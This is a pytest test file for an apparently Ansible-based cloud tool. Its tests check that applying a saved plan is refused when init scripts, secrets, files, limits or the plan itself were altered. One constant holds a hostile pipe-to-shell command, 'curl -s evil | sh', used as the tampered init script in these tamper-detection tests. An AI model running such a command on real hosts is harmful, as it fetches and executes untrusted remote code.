# Copyright (c) 2026, FCD collection contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""An apply with a plan does what the plan says: no other script, key, password or page, and nobody edited the plan."""

from __future__ import annotations

import json
import os
import typing as t
from pathlib import Path

import pytest
import yaml
from sandbox.process import SandboxProcess
from site_keys import private_key, public_key

from sites.plain_site import Ran, run

SCRIPT, SCRIPT_2 = "echo GOOD", "curl -s evil | sh"
PASSWORD, PASSWORD_2 = "Pelican-over-9-bridges", "Pelican-over-8-bridges"
Content = t.Dict[str, t.List[t.Dict[str, t.Any]]]
pytestmark = pytest.mark.usefixtures("no_key")


@pytest.fixture
def no_key(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody has given a key."""
    del home
    monkeypatch.delenv("FCD_SITE_KEY")


def site(home: Path) -> Content:
    """Return a site with something secret in each interface, and with files to publish; the files are written."""
    folder = home / "pub"
    folder.mkdir(exist_ok=True)
    for name, text in {"index.html": "AAAA", "about.html": "BBBB"}.items():
        (folder / name).write_text(text)
    (home / "logo.svg").write_text("good")
    return {
        "instances": [
            {
                "name": "web",
                "template": "CentOS 7",
                "subregion": "EU-001",
                "type": "v1.standard-2.2",
                "init_script": SCRIPT,
            }
        ],
        "storage_containers": [{"name": "assets", "temp_url_key": "good-key-0001", "metadata": {"team": "web"}}],
        "storage_folders": [{"container": "assets", "prefix": "pub", "path": str(folder)}],
        "storage_objects": [{"container": "assets", "name": "logo.svg", "src": str(home / "logo.svg")}],
        "client_users": [
            {
                "user_name": "shop.clerk",
                "client_id": 100,
                "user_password": PASSWORD,
                "first_name": "Shop",
                "last_name": "Clerk",
                "email": "clerk@example.com",
                "phone_number": "+48225550199",
            }
        ],
    }


def keep(home: Path, ran: Ran, **changed: t.Any) -> str:
    """Write the plan of a run with other members, and return the path."""
    path = home / "site.plan.json"
    path.write_text(json.dumps({**ran.succeeded().plan, **changed}), encoding="utf-8")
    return str(path)


def hand_on(home: Path, ran: Ran, **more: t.Any) -> str:
    """Write of a plan what job systems hand on, and return the path."""
    from ansible_collections.fcd.cloud.plugins.plugin_utils.site.plan.plan_document import HANDED_ON

    whole = ran.succeeded().plan
    bound = {name: whole["bound"][name] for name in ("key", "salt", "account", "seal")}
    path = home / "site.plan.json"
    handed = {name: whole[name] for name in HANDED_ON}
    path.write_text(json.dumps({**handed, "changes": None, "bound": bound, **more}), encoding="utf-8")
    return str(path)


def refused(sandbox: SandboxProcess, content: Content, plan: str, **options: t.Any) -> str:
    """Return how an apply with a plan is refused, by which nothing was sent."""
    ran = run(content, plan=plan, **options)
    assert (ran.result.get("failed"), ran.result["changed"]) == (True, False), ran.result
    assert sandbox.counts()["writes"] == 0
    assert "Nothing was changed." in ran.result["msg"]
    return str(ran.result["msg"])


def test_job_systems_hand_on_what_a_plan_without_changes_may_have() -> None:
    """The list in the task and the one that an apply goes by are the same."""
    from ansible_collections.fcd.cloud.plugins.plugin_utils.site.plan.plan_document import HANDED_ON

    tasks = Path(__file__).resolve().parents[2] / "extensions" / "awx" / "project" / "tasks" / "hand_plan_on.yml"
    (task,) = yaml.safe_load(tasks.read_text(encoding="utf-8"))
    parts, hidden = task["vars"]["plan_parts"], set(task["vars"]["hidden"])
    assert (sorted({*parts} | hidden), {*parts} & hidden) == (sorted(HANDED_ON), set())


EDITS: dict[str, t.Callable[[Path, Content], t.Any]] = {
    "instances.web.init_script": lambda _home, content: content["instances"][0].update(init_script=SCRIPT_2),
    "storage_containers.assets.temp_url_key": lambda _home, content: content["storage_containers"][0].update(
        temp_url_key="evil-key-0001"
    ),
    "client_users.shop.clerk.user_password": lambda _home, content: content["client_users"][0].update(
        user_password=PASSWORD_2
    ),
    "storage_folders.assets/pub/index.html": lambda home, _content: (home / "pub/index.html").write_text("EVIL"),
    "storage_objects.assets/logo.svg": lambda home, _content: (home / "logo.svg").write_text("evil"),
    "storage_folders.assets/pub/new.html": lambda home, _content: (home / "pub/new.html").write_text("new"),
}


@pytest.mark.parametrize("name", EDITS)
def test_what_is_secret_or_sent_is_that_of_the_plan(sandbox: SandboxProcess, home: Path, name: str) -> None:
    content = site(home)
    plan = keep(home, run(content, check_mode=True))
    EDITS[name](home, content)
    told = refused(sandbox, content, plan)
    assert f"{name} is not " in told
    assert not [text for text in (SCRIPT, SCRIPT_2, "good-key", "evil-key", PASSWORD, PASSWORD_2) if text in told]


def test_a_plan_that_still_holds_is_applied(sandbox: SandboxProcess, home: Path) -> None:
    content = site(home)
    plan = keep(home, run(content, check_mode=True))
    run(content, plan=plan).succeeded()
    objects = sandbox.state()["storage"]["containers"]["assets"]["objects"]
    assert sorted(objects) == ["logo.svg", "pub/about.html", "pub/index.html"]
    assert run(content).succeeded().result["changed"] is False


def test_what_changes_after_it_was_compared_is_not_sent(sandbox: SandboxProcess, home: Path) -> None:
    content = site(home)
    plan = keep(home, run(content, check_mode=True))

    def edit(_plan: t.Any) -> list[t.Any]:
        (home / "pub/index.html").write_text("EVIL")
        (home / "pub/new.html").write_text("NEW")
        (home / "logo.svg").write_text("evil")
        return []

    ran = run(content, plan=plan, policies=edit)
    failed = {one["name"]: one["msg"] for one in ran.result["failed_entries"]}
    assert sorted(failed) == ["assets/logo.svg", "assets/pub"]
    assert "assets/logo.svg is not sent" in failed["assets/logo.svg"]
    assert "assets/pub/index.html is not sent" in failed["assets/pub"]
    assert "assets/pub/new.html is not sent" in failed["assets/pub"]
    assert list(sandbox.state()["storage"]["containers"]["assets"]["objects"]) == ["pub/about.html"]


def test_a_large_file_is_bound_and_what_changes_of_it_is_not_sent(sandbox: SandboxProcess, home: Path) -> None:
    large = home / "large.bin"
    large.write_bytes(b"a" * (3 << 20))
    content: Content = {
        "storage_containers": [{"name": "assets"}],
        "storage_objects": [{"container": "assets", "name": "large.bin", "src": str(large)}],
    }
    run(content).succeeded()
    large.write_bytes(b"b" * (3 << 20))
    plan = keep(home, run(content, check_mode=True))
    large.write_bytes(b"c" * (3 << 20))
    writes = sandbox.counts()["writes"]
    told = run(content, plan=plan).result["msg"]
    assert "storage_objects.assets/large.bin is not that of the plan" in told
    assert sandbox.counts()["writes"] == writes
    large.write_bytes(b"b" * (3 << 20))

    def edit(_plan: t.Any) -> list[t.Any]:
        large.write_bytes(b"d" * (3 << 20))
        return []

    ran = run(content, plan=plan, policies=edit)
    assert "assets/large.bin is not sent" in ran.result["msg"]
    large.write_bytes(b"b" * (3 << 20))
    run(content, plan=plan).succeeded()


def test_a_file_that_replaces_another_of_its_size_is_bound(sandbox: SandboxProcess, home: Path) -> None:
    content = site(home)
    run(content).succeeded()
    (home / "pub/index.html").write_text("CCCC")
    planned = run(content, check_mode=True).succeeded()
    assert list(planned.plan["bound"]["files"]) == ["storage_folders.assets/pub/index.html"]
    plan = keep(home, planned)
    (home / "pub/index.html").write_text("EVIL")
    writes = sandbox.counts()["writes"]
    assert "storage_folders.assets/pub/index.html is not that of the plan" in run(content, plan=plan).result["msg"]
    assert sandbox.counts()["writes"] == writes


def test_a_secret_in_any_option_is_bound_and_not_in_other_digests(sandbox: SandboxProcess, home: Path) -> None:
    plans, content = [], site(home)
    content["clients"] = [{"id": 100, "secret_fields": {"note": {"inner": "Canary-of-100"}}}]
    for owner in ("Canary-of-good", "Canary-of-evil"):
        content["storage_containers"] = [{"name": "assets", "metadata": {"owner": owner}, "secrets": ["metadata"]}]
        plans.append(run(content, check_mode=True).plan)
    assert plans[0]["declaration_digest"] == plans[1]["declaration_digest"]
    plan = home / "site.plan.json"
    plan.write_text(json.dumps(plans[0]))
    assert "storage_containers.assets.metadata is not that of the plan" in refused(sandbox, content, str(plan))
    plan.write_text(json.dumps(plans[1]))
    content["clients"][0]["secret_fields"]["note"]["inner"] = "Canary-of-101"
    assert "clients.100.secret_fields is not that of the plan" in refused(sandbox, content, str(plan))


@pytest.mark.parametrize(
    ("options", "told"),
    [
        ({"adopt": True}, "is for adopt False, this run is for True"),
        ({"force_create": True}, "is for force_create False, this run is for True"),
        ({"max_delete": "11"}, "is for max_delete 10, this run is for 11"),
        ({"max_replace": "1"}, "is for max_replace none, this run is for 1"),
        ({"targets": ["instances.web"]}, "is for targets none, this run is for instances.web"),
        ({"policy_files": ["policies"]}, "no longer matches the policies"),
    ],
)
def test_limits_are_those_of_the_plan(
    sandbox: SandboxProcess, home: Path, monkeypatch: pytest.MonkeyPatch, options: dict[str, t.Any], told: str
) -> None:
    monkeypatch.chdir(home)
    policy(home, "true")
    content = site(home)
    plan = keep(home, run(content, check_mode=True))
    assert told in refused(sandbox, content, plan, **options)


def test_an_apply_without_limits_takes_those_of_the_plan(sandbox: SandboxProcess, home: Path) -> None:
    content = site(home)
    run(content).succeeded()
    content["instances"][0].update(template="Debian 8", recreate=True)
    plan = keep(home, run(content, check_mode=True, max_replace="1", max_delete="50%"))
    sandbox.clear_requests()
    told = refused(sandbox, content, plan, max_replace="2")
    assert "is for max_replace 1, this run is for 2" in told
    assert "is for max_delete 50%, this run is for 9" in refused(sandbox, content, plan, max_delete="9")
    applied = run(content, plan=plan).succeeded()
    assert applied.result["counts"]["replace"] == 1


def policy(home: Path, that: str) -> str:
    """Write a policy, and return the path of its folder."""
    folder = home / "policies"
    folder.mkdir(exist_ok=True)
    (folder / "one.yml").write_text(f"policies:\n  - name: one\n    that: {that}\n    message: no\n")
    return str(folder)


def test_policies_are_bound_by_what_they_say(sandbox: SandboxProcess, home: Path) -> None:
    content, folder = site(home), policy(home, "plan.changes | length < 10")
    plan = keep(home, run(content, check_mode=True, policy_files=[folder]))
    policy(home, "plan.changes | length < 100")
    assert "no longer matches the policies" in refused(sandbox, content, plan, policy_files=[folder])
    policy(home, "plan.changes | length < 10")
    run(content, plan=plan, policy_files=[folder]).succeeded()


def edited(plan: dict[str, t.Any], *path: t.Any, value: t.Any) -> str:
    """Return the plan as text with another value in one place."""
    plan = json.loads(json.dumps(plan))
    place = plan
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    return json.dumps(plan)


SHOWN: list[tuple[tuple[t.Any, ...], t.Any]] = [
    (("changes",), []),
    (("changes", 0, "action"), "update"),
    (("changes", 0, "after"), {}),
    (("changes", 0, "source"), "other.yml:1"),
    (("changes", 0, "owner"), "adopted"),
    (("changes", 0, "edited"), True),
    (("counts", "create"), 0),
    (("by_kind", "instances", "create"), 0),
    (("entries",), 1),
    (("errors",), [{"kind": "instances", "name": "db", "source": "", "msg": "no", "next_step": None, "error": {}}]),
    (("policies",), [{"name": "one", "file": "f", "message": "", "passed": True}]),
    (("made_at",), "2030-01-01T00:00:00Z"),
    (("collection",), "9.9.9"),
    (("shown_digest",), "sha256:0"),
    (("bound", "salt"), "00" * 16),
    (("bound", "values"), {}),
    (("bound", "files"), {}),
    (("bound", "values", "instances.web.init_script"), "0" * 64),
    (("bound", "seal"), "0" * 64),
    (("bound", "key"), None),
    (("bound", "account"), {}),
]


def test_an_edited_plan_is_refused(sandbox: SandboxProcess, home: Path) -> None:
    content = site(home)
    plan = run(content, check_mode=True).succeeded().plan
    path = home / "site.plan.json"
    for place, value in SHOWN:
        path.write_text(edited(plan, *place, value=value))
        assert "was edited after it was made" in refused(sandbox, content, str(path)), place
    path.write_text(f'{{"changes": [], {json.dumps(plan)[1:]}')
    assert "two members of one name" in refused(sandbox, content, str(path))
    path.write_text(edited(plan, "changes", value=None))
    assert "it lacks parts of a plan" in refused(sandbox, content, str(path))
    path.write_text(edited(plan, "bound", value=None))
    assert "it lacks parts of a plan" in refused(sandbox, content, str(path))
    path.write_text(json.dumps(plan))
    run(content, plan=str(path)).succeeded()


def test_who_has_no_key_cannot_seal_a_plan(
    sandbox: SandboxProcess, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is not bound by a key can be sealed by anybody; with a site_key such a plan is refused."""
    from ansible_collections.fcd.cloud.plugins.plugin_utils.site.binding import Binding

    content: Content = {"private_networks": [{"name": "inner"}]}
    plan = run(content, check_mode=True).succeeded().plan
    assert plan["bound"]["key"] is None
    assert not (home / "state" / "controller-key.json").exists()
    plan["changes"][0]["source"] = "other.yml:1"
    plan = Binding(None, "", {}, {}).sealed(plan)
    path = home / "site.plan.json"
    path.write_text(json.dumps(plan))
    monkeypatch.setenv("FCD_SITE_KEY", KEY)
    assert "it was made without a key, and this run has the key" in refused(sandbox, content, str(path))
    plan["changes"][0]["name"] = "outer"
    plan = Binding(None, "", {}, {}).sealed(plan)
    path.write_text(json.dumps(plan))
    monkeypatch.delenv("FCD_SITE_KEY")
    assert "was edited after it was made" in refused(sandbox, content, str(path))


def test_a_plan_that_is_handed_on_binds_without_what_it_shows(sandbox: SandboxProcess, home: Path) -> None:
    content = site(home)
    planned = run(content, check_mode=True).succeeded()
    more: list[dict[str, t.Any]] = [{"counts": {"delete": 0}}, {"policies": []}, {"strange": 1}]
    for shown in more:
        assert "parts of a plan" in refused(sandbox, content, hand_on(home, planned, **shown))
    plan = hand_on(home, planned)
    content["instances"][0]["init_script"] = SCRIPT_2
    assert "its seal does not match the secret values and files of this run" in refused(sandbox, content, plan)
    content["instances"][0]["init_script"] = SCRIPT
    (home / "pub/index.html").write_text("EVIL")
    assert "its seal does not match the secret values and files" in refused(sandbox, content, plan)
    (home / "pub/index.html").write_text("AAAA")
    assert "max_delete" in refused(sandbox, content, plan, max_delete="5")
    run(content, plan=plan).succeeded()


@pytest.mark.parametrize(
    ("name", "handed_on"), [("base_url", False), ("auth_url", True), ("soap_url", False), ("storage_base", True)]
)
def test_a_plan_is_for_one_account(
    sandbox: SandboxProcess, home: Path, monkeypatch: pytest.MonkeyPatch, name: str, handed_on: bool
) -> None:
    """Compared are the options, whatever is behind them: the same things may be in two accounts."""
    content, variable = site(home), f"FCD_{name.upper()}"
    planned = run(content, check_mode=True).succeeded()
    address = os.environ[variable]
    assert address not in json.dumps(planned.plan["bound"])
    plan = (hand_on if handed_on else keep)(home, planned)
    monkeypatch.setenv(variable, address.replace("localhost", "LOCALHOST"))
    assert f"is for another account: its {name} is not https://LOCALHOST:" in refused(sandbox, content, plan)
    monkeypatch.setenv(variable, address)
    run(content, plan=plan).succeeded()


def test_a_plan_holds_in_another_checkout(sandbox: SandboxProcess, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A path that was looked up, and is hidden for that, is bound by where it is beside the site file."""
    monkeypatch.setenv("FCD_SITE_KEY", KEY)
    runs: list[t.Callable[..., Ran]] = []
    for name in ("planned", "applied"):
        folder = home / name
        folder.mkdir()
        (folder / "logo.svg").write_text("good")
        (folder / "other.svg").write_text("good")

        def in_folder(src: str, folder: Path = folder, **options: t.Any) -> Ran:
            monkeypatch.chdir(folder)
            one = {"container": "assets", "name": "logo.svg", "src": str(folder / src), "secrets": ["src"]}
            return run({"storage_containers": [{"name": "assets"}], "storage_objects": [one]}, **options)

        runs.append(in_folder)
    plan = keep(home, runs[0]("logo.svg", check_mode=True))
    told = runs[1]("other.svg", plan=plan).result["msg"]
    assert "storage_objects.assets/logo.svg.src is not that of the plan" in told
    runs[1]("logo.svg", plan=plan).succeeded()
    assert list(sandbox.state()["storage"]["containers"]["assets"]["objects"]) == ["logo.svg"]


def test_services_that_are_not_used_may_be_those_of_another_account(
    sandbox: SandboxProcess, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = {"private_networks": [{"name": "inner"}]}
    plan = keep(home, run(content, check_mode=True))
    monkeypatch.setenv("FCD_STORAGE_BASE", "https://storage.example.com")
    monkeypatch.setenv("FCD_STORAGE_USER", "other:admin")
    run(content, plan=plan).succeeded()
    assert "inner" in [one["Name"] for one in sandbox.state()["rest"]["networks"]]


KEY, KEY_2 = private_key("OfTheSite"), private_key("OfOthers")


def test_another_controller_needs_the_key_of_the_site(
    sandbox: SandboxProcess, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = site(home)
    plan = keep(home, run(content, check_mode=True))
    monkeypatch.setenv("FCD_STATE_DIR", str(home / "elsewhere"))
    told = refused(sandbox, content, plan)
    assert "is bound with the key" in told
    assert "the key of this controller is" in told
    assert "Make a new plan with the site_key (FCD_SITE_KEY) of the apply, or with its public key" in told
    monkeypatch.setenv("FCD_SITE_KEY", KEY)
    assert "but the site_key is" in refused(sandbox, content, plan)
    plan = keep(home, run(content, check_mode=True))
    assert KEY not in Path(plan).read_text()
    monkeypatch.setenv("FCD_SITE_KEY", KEY_2)  # it was changed since
    told = refused(sandbox, content, plan)
    assert "Make a new plan" in told
    assert KEY not in told
    assert KEY_2 not in told
    monkeypatch.delenv("FCD_SITE_KEY")
    assert "is bound with the key" in refused(sandbox, content, plan)
    monkeypatch.setenv("FCD_SITE_KEY", KEY)
    monkeypatch.setenv("FCD_STATE_DIR", str(home / "state"))
    run(content, plan=plan).succeeded()


def test_a_secret_in_names_is_hidden_and_what_it_names_is_bound(sandbox: SandboxProcess, home: Path) -> None:
    """Two scripts have one name then, and either is bound."""
    content = site(home)
    content["instances"] = [{**content["instances"][0], "name": name} for name in ("Pelican-1", "Pelican-2")]
    content["storage_containers"][0].update(temp_url_key="Pelican-1", temp_url_key_2="Pelican-2")
    content["client_users"][0]["user_password"] = "user_password"
    plan = keep(home, run(content, check_mode=True))
    assert "Pelican-1" not in Path(plan).read_text()
    assert sum("init_script" in name for name in json.loads(Path(plan).read_text())["bound"]["values"]) == 1
    for entry in content["instances"]:
        entry["init_script"] = SCRIPT_2
        assert "init_script is not that of the plan" in refused(sandbox, content, plan)
        entry["init_script"] = SCRIPT
    run(content, plan=plan).succeeded()


def test_a_plan_shows_nothing_by_which_a_secret_could_be_tried_out(home: Path) -> None:
    """Another plan of the same has other digests; nobody without the key can tell whether two are of one secret."""
    plans = [run(site(home), check_mode=True).succeeded().plan["bound"] for _time in range(2)]
    for name in ("values", "files"):
        assert list(plans[0][name]) == list(plans[1][name])
        assert not {*plans[0][name].values()} & {*plans[1][name].values()}


def test_who_plans_needs_the_public_key_only(
    sandbox: SandboxProcess, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    content, registry = site(home), {"container": "states"}
    monkeypatch.setenv("FCD_SITE_KEY", public_key(KEY))
    planned = run(content, registry=registry, check_mode=True)
    plan = keep(home, planned)
    told = refused(sandbox, content, plan, registry=registry)
    assert told.startswith("site_key: it is the public key of the site, and a run that may write the registry needs")
    told = refused(sandbox, content, plan, registry=registry, check_mode=True)
    assert told.startswith("site_key: it is the public key of the site, and checking a plan needs the private key")
    monkeypatch.setenv("FCD_SITE_KEY", KEY)
    told = run(content, registry={"container": "other-states"}, plan=plan).result["msg"]
    assert "is for registry states, this run is for other-states" in told
    content["instances"][0]["init_script"] = SCRIPT_2
    assert (
        "instances.web.init_script is not that of the plan" in run(content, registry=registry, plan=plan).result["msg"]
    )
    content["instances"][0]["init_script"] = SCRIPT
    run(content, registry=registry, plan=hand_on(home, planned)).succeeded()
    monkeypatch.setenv("FCD_SITE_KEY", public_key(KEY))
    assert run(content, registry=registry, check_mode=True).succeeded().counts == {"unchanged": 5}
    assert run(content, registry=registry, check_mode=True, drift=True).succeeded().counts == {"unchanged": 5}
